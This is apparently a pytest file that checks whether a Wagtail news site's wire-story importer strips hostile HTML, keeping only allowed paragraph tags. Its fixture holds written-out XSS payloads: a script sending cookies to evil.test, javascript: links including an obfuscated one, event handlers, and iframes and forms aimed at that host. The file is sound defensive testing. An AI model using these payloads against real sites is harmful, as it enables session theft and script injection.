"""A hostile body is stored as only what the paragraph editor would accept."""

from bs4 import BeautifulSoup
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

from news.blocks import PARAGRAPH_FEATURES
from news.models import ArticlePage
from wire.body import body_blocks

from .factories import ninjs_story

HOSTILE = """<body>
<script>document.location='https://evil.test/?c='+document.cookie</script>
<style>body { display: none }</style>
<p onclick="steal()" style="color:red" class="lead">Water <b onmouseover="x()">rose</b> at
<a href="javascript:alert(1)">night</a>, <a href="jav&#x09;ascript:alert(2)">twice</a> and
<a href="https://example.org/report" target="_blank" onclick="x()">the report</a>.</p>
<img src="x" onerror="alert(3)">
<iframe src="https://evil.test/frame"></iframe>
<marquee>Unknown tags keep their text</marquee>
<form action="https://evil.test"><input name="password"><button>Go</button></form>
<svg onload="alert(4)"><script>alert(5)</script></svg>
<object data="evil.swf"></object><embed src="evil.swf">
<a data-linktype="page" data-id="1" href="https://example.org/">internal?</a>
<p><a href="/relative/path">relative</a> <a href="data:text/html,bad">data</a></p>
<!-- a comment -->
</body>"""


def stored_html(blocks):
    return "".join(value.source for kind, value in blocks if kind == "paragraph")


def test_scripts_styles_handlers_frames_and_unknown_tags_are_removed():
    blocks, _ = body_blocks(HOSTILE)
    html = stored_html(blocks)
    lowered = html.lower()

    for fragment in (
        "script", "style", "onclick", "onmouseover", "onerror", "onload", "javascript",
        "iframe", "marquee", "form", "input", "button", "svg", "object", "embed", "img",
        "evil", "alert", "linktype", "data:", "class=", "target=", "<!--",
    ):  # fmt: skip
        assert fragment not in lowered, fragment
    assert 'Water <b>rose</b> at night, twice and <a href="https://example.org/report">' in html
    assert "Unknown tags keep their text" in html
    assert "relative data" in html


def test_the_stored_html_is_what_the_paragraph_editor_saves():
    blocks, _ = body_blocks(HOSTILE)
    converter = ContentstateConverter(features=PARAGRAPH_FEATURES)
    for kind, value in blocks:
        if kind == "paragraph":
            round_trip = converter.to_database_format(converter.from_database_format(value.source))
            assert round_trip == value.source


def test_only_the_paragraph_features_tags_are_kept():
    blocks, dropped = body_blocks(
        "<p><u>u</u> <s>s</s> <code>c</code> <sup>1</sup> <i>i</i> <strong>b</strong></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><table><tr><td>cell</td></tr></table>"
    )
    tags = {tag.name for tag in BeautifulSoup(stored_html(blocks), "html.parser").find_all(True)}
    assert tags <= {"p", "b", "i", "a", "ul", "ol", "li", "br"}
    assert dropped == 0


def test_a_hostile_story_is_stored_clean_with_its_pictures_left_out(desk):
    [result] = desk.ingest(
        ninjs_story(
            headlines=[{"value": "<script>x()</script>Dam <b>holds</b>"}],
            bodies=[{"contenttype": "text/html", "value": HOSTILE}],
        )
    )
    article = ArticlePage.objects.get(pk=result.article_id)

    assert article.title == "Dam holds"
    assert "script" not in str(article.body.raw_data).lower()
    assert any("picture(s) inside the body copy were left out" in w for w in result.warnings)
